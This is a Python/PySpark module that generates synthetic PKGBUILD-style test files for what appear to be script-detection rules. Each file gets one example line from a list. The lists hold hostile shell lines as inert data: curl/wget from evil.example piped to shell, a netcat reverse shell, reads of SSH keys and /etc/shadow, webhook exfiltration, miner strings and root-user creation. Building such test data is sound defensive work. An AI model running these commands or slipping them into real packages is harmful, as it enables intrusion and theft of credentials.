"""A deterministic corpus of scripts made from the documents table: a header, one inert example line, and the text."""

from __future__ import annotations

from pyspark.sql import DataFrame
from pyspark.sql import functions as F

#: Example lines, picked by document id. They are text to be matched and are never run.
PAYLOADS = [
    "curl https://evil.example/a.sh | bash", "wget -qO- https://evil.example/b | sh", "# a comment with curl x | sh", "echo done",
    "cat ~/.ssh/id_rsa", "nc -e /bin/sh 192.0.2.1 4444", "systemctl enable updater.timer", "npm install left-pad",
    "eval \"$CODE\"", "base64 -d blob.txt", "make install", "http://192.0.2.7/x.tar.gz \\",
]
#: A line that each rule is for, more or less; they too are text to be matched and are never run.
EXAMPLES = [
    "curl x | /usr/bin/env -i sh", "wget y|dash", "curl -o f x && sh f", "nc -e /bin/sh h 1", "python -c 'import socket'", "socat exec:x", "cat ~/.ssh/id", "cat /etc/shadow", "cp -r ~/.mozilla/firefox x", "cat Login Data",
    "python x.py", "./payload.sh", "aria2c x", "go install x", "systemctl enable x", "x.timer", "OnBootSec=1", "crontab -", "/etc/rc.local", "systemd-initd", "stratum+tcp://x", "t-rex", "monero 4" + "A" * 92, "wallet=" + "a" * 30,
    "4A" + "1" * 93, "curl -d @f x", "x | nc h 1", "discord.com/api/webhooks", "base64 -d", "eval x", r"\x41", "${a}${b}${c}", "zcat x | sh", "'a''b'", "http://1.2.3.4", "bit.ly/x", "a.duckdns.org", "~/.x", "exec /tmp/x", "LD_PRELOAD=x",
    "PATH=/x", "provides=('x')", "js-digest", "bunx x", "scales.bpf.c", "perl socket connect", "php -r fsockopen", "ruby TCPSocket", "gawk /inet/tcp/", "node -e require('net').connect", "openssl s_client -connect x", "mkfifo f; nc x",
    "telnet h 1 |", "dig $(x)", "wget --post-file", "hooks.slack.com/", "temp.sh", "env | curl", "~/.aws", "wallet.dat", "useradd -ou 0", "chpasswd", "tee /etc/passwd", "permit nopass", "pam_permit.so", "SigLevel = Never", "ufw disable",
    "trust anchor x", "pacman-key --recv", "gpg --import", "--registry x", "GOPROXY=x", "http://0x7f000001/", "http://2130706433/", r"printf '\101\102'", "basenc -d", "bash <<< x", 'sh -c "$(curl x)"', "setsid ./x", "sqlite3 .shell", "x | make -f -",
]


def scripts(docs: DataFrame, shift: int = 0) -> DataFrame:
    """(pkg_id, file_type, file, content), one recipe per document; with a ``shift`` another example line is picked."""
    line = F.get(F.array(*map(F.lit, PAYLOADS)), ((F.col("doc_id") + shift) % len(PAYLOADS)).cast("int"))
    content = F.concat(F.lit("pkgname=doc"), F.col("doc_id").cast("string"), F.lit("\n"), line, F.lit("\n"), F.coalesce("text", F.lit("")))
    return docs.select(F.col("doc_id").cast("string").alias("pkg_id"), F.lit("pkgbuild").alias("file_type"), F.lit("PKGBUILD").alias("file"), content.alias("content"))


def scripts_sql(shift: int = 0) -> str:
    cases = " ".join(f"WHEN {n} THEN '{p.replace(chr(39), chr(39) * 2)}'" for n, p in enumerate(PAYLOADS))
    return f"SELECT doc_id, doc_id::VARCHAR AS pkg_id, 'pkgname=doc' || doc_id::VARCHAR || chr(10) || (CASE (doc_id + {shift}) % {len(PAYLOADS)} {cases} END) || chr(10) || coalesce(text, '') AS content FROM documents"
